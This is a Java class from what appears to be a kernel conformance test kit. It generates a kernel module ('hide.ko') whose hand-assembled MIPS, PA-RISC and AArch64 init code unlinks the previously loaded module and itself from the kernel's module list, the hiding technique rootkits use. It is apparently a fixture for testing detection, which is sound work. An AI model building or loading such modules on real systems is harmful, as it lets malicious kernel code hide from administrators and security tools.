package io.modrt.conformance;

import io.modrt.kernel.KernelProfile;
import io.modrt.testkit.KernelModuleBuilder;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;

/**
 * A kernel module that hides modules as rootkits do. Its init function takes the module that was loaded before it, and then itself, off the
 * kernel's list, and poisons the links as {@code list_del} does. Both go on running.
 */
final class HidingModule {
    /** The name in its {@code struct module}. */
    static final String NAME = "hide";

    private static final String SELF = "__this_module";
    private static final String STRUCT_MODULE = ".gnu.linkonce.this_module";
    private static final int R_MIPS_HI16 = 5;
    private static final int R_MIPS_LO16 = 6;
    private static final int R_PARISC_DIR21L = 2;
    private static final int R_PARISC_DIR14R = 6;
    private static final int R_PARISC_LTOFF21L = 34;
    private static final int R_PARISC_LTOFF14R = 38;
    private static final int R_PARISC_FPTR64 = 64;
    private static final int R_AARCH64_ADR_PREL_PG_HI21 = 275;
    private static final int R_AARCH64_ADD_ABS_LO12_NC = 277;

    private final KernelShape kernel;

    HidingModule(KernelShape kernel) {
        this.kernel = kernel;
    }

    /** Of the kernel that {@code live} is. */
    static HidingModule of(LiveKernel live) throws IOException {
        List<Path> files = LoadTree.modules(live.tree()).stream()
                .sorted(Comparator.comparing(file -> file.toFile().length()))
                .toList();
        return new HidingModule(KernelShape.of(files, KernelProfile.ofConfig(live.config())));
    }

    /** Writes the file into a folder; returns its path. */
    Path write(Path folder) throws IOException {
        return Files.write(folder.resolve(NAME + ".ko"), file());
    }

    byte[] file() {
        KernelModuleBuilder module = kernel.module(NAME);
        int start = kernel.returning().length * Integer.BYTES;
        module.text(code());
        if (kernel.isMips()) {
            module.relocation(".text", start, R_MIPS_HI16, SELF).relocation(".text", start + 4L, R_MIPS_LO16, SELF);
        } else if (kernel.isAArch64()) {
            module.relocation(".text", start + 4L, R_AARCH64_ADR_PREL_PG_HI21, SELF)
                    .relocation(".text", start + 8L, R_AARCH64_ADD_ABS_LO12_NC, SELF);
        } else if (kernel.isWide()) {
            module.relocation(".text", start, R_PARISC_LTOFF21L, SELF)
                    .relocation(".text", start + 4L, R_PARISC_LTOFF14R, SELF);
        } else {
            module.relocation(".text", start, R_PARISC_DIR21L, SELF)
                    .relocation(".text", start + 4L, R_PARISC_DIR14R, SELF);
        }
        if (kernel.isParisc() && kernel.isWide()) {
            // why: a pointer to a function is one to its descriptor, for which the builder has no relocation
            module.function("hide", ".text", start)
                    .writable(STRUCT_MODULE)
                    .relocation(kernel.initOffset(), R_PARISC_FPTR64, module.symbol("hide"));
        } else {
            module.function("init_module", ".text", start);
        }
        return module.build();
    }

    private int[] code() {
        if (kernel.isAArch64()) {
            return AARCH64;
        }
        if (kernel.isMips()) {
            return kernel.isWide() ? MIPS_64 : MIPS_32;
        }
        return kernel.isWide() ? PARISC_64 : PARISC_32;
    }

    // spotless:off
    private static final int[] MIPS_32 = {
        0x3c0c0000, // lui   t4,%hi(__this_module)
        0x258c0000, // addiu t4,t4,%lo(__this_module)
        0x8d8d0004, // lw    t5,4(t4)      the list's node of the module that was loaded before
        0x258e0004, // addiu t6,t4,4       the node of this module
        0x8da90000, 0x8daa0004, // lw t1,0(t5); lw t2,4(t5)
        0xad2a0004, 0xad490000, // sw t2,4(t1); sw t1,0(t2)
        0x240b0100, 0xadab0000, // li t3,0x100; sw t3,0(t5)
        0x240b0122, 0xadab0004, // li t3,0x122; sw t3,4(t5)
        0x8dc90000, 0x8dca0004, 0xad2a0004, 0xad490000, // the same with t6
        0x240b0100, 0xadcb0000, 0x240b0122, 0xadcb0004,
        0x03e00008, 0x00001025, // jr ra; move v0,zero
    };

    private static final int[] MIPS_64 = {
        0x3c0c0000, // lui    t0,%hi(__this_module)
        0x658c0000, // daddiu t0,t0,%lo(__this_module)
        0xdd8d0008, // ld     t1,8(t0)
        0x658e0008, // daddiu t2,t0,8
        0xdda90000, 0xddaa0008, // ld a5,0(t1); ld a6,8(t1)
        0xfd2a0008, 0xfd490000, // sd a6,8(a5); sd a5,0(a6)
        0x240b0100, 0xfdab0000, // li a7,0x100; sd a7,0(t1)
        0x240b0122, 0xfdab0008, // li a7,0x122; sd a7,8(t1)
        0xddc90000, 0xddca0008, 0xfd2a0008, 0xfd490000, // the same with t2
        0x240b0100, 0xfdcb0000, 0x240b0122, 0xfdcb0008,
        0x03e00008, 0x00001025, // jr ra; move v0,zero
    };

    private static final int[] PARISC_32 = {
        0x22800000, // ldil L'__this_module,%r20
        0x36940000, // ldo  R'__this_module(%r20),%r20
        0x0e881095, // ldw  4(%r20),%r21
        0x36960008, // ldo  4(%r20),%r22
        0x0ea01097, 0x0ea81098, // ldw 0(%r21),%r23; ldw 4(%r21),%r24
        0x0ef81288, 0x0f171280, // stw %r24,4(%r23); stw %r23,0(%r24)
        0x34190200, 0x0eb91280, // ldi 0x100,%r25;   stw %r25,0(%r21)
        0x34190244, 0x0eb91288, // ldi 0x122,%r25;   stw %r25,4(%r21)
        0x0ec01097, 0x0ec81098, 0x0ef81288, 0x0f171280, // the same with %r22
        0x34190200, 0x0ed91280, 0x34190244, 0x0ed91288,
        0xe840c000, 0x341c0000, // bv %r0(%rp); ldi 0,%ret0
    };

    private static final int[] PARISC_64 = {
        0x2b600000, // addil LT'__this_module,%dp
        0x50340000, // ldd   RT'__this_module(%r1),%r20
        0x0e9010d5, // ldd   8(%r20),%r21
        0x36960010, // ldo   8(%r20),%r22
        0x0ea010d7, 0x0eb010d8, // ldd 0(%r21),%r23; ldd 8(%r21),%r24
        0x0ef812d0, 0x0f1712c0, // std %r24,8(%r23); std %r23,0(%r24)
        0x34190200, 0x0eb912c0, // ldi 0x100,%r25;   std %r25,0(%r21)
        0x34190244, 0x0eb912d0, // ldi 0x122,%r25;   std %r25,8(%r21)
        0x0ec010d7, 0x0ed010d8, 0x0ef812d0, 0x0f1712c0, // the same with %r22
        0x34190200, 0x0ed912c0, 0x34190244, 0x0ed912d0,
        0xe840d000, 0x341c0000, // bve (%rp); ldi 0,%ret0
    };

    private static final int[] AARCH64 = {
        0xd503245f, // bti  c
        0x90000000, // adrp x0,__this_module
        0x91000000, // add  x0,x0,:lo12:__this_module
        0xf9400401, // ldr  x1,[x0,#8]
        0x91002002, // add  x2,x0,#8
        0xa9402829, // ldp  x9,x10,[x1]
        0xf900052a, 0xf9000149, // str x10,[x9,#8]; str x9,[x10]
        0xd280200b, 0xf2fbd5ab, 0xf900002b, // mov x11,#0x100; movk x11,#0xdead,lsl #48; str x11,[x1]
        0xd280244b, 0xf2fbd5ab, 0xf900042b, // mov x11,#0x122; movk x11,#0xdead,lsl #48; str x11,[x1,#8]
        0xa9402849, 0xf900052a, 0xf9000149, // the same with x2
        0xd280200b, 0xf2fbd5ab, 0xf900004b,
        0xd280244b, 0xf2fbd5ab, 0xf900044b,
        0x2a1f03e0, 0xd65f03c0, // mov w0,wzr; ret
    };
    // spotless:on
}
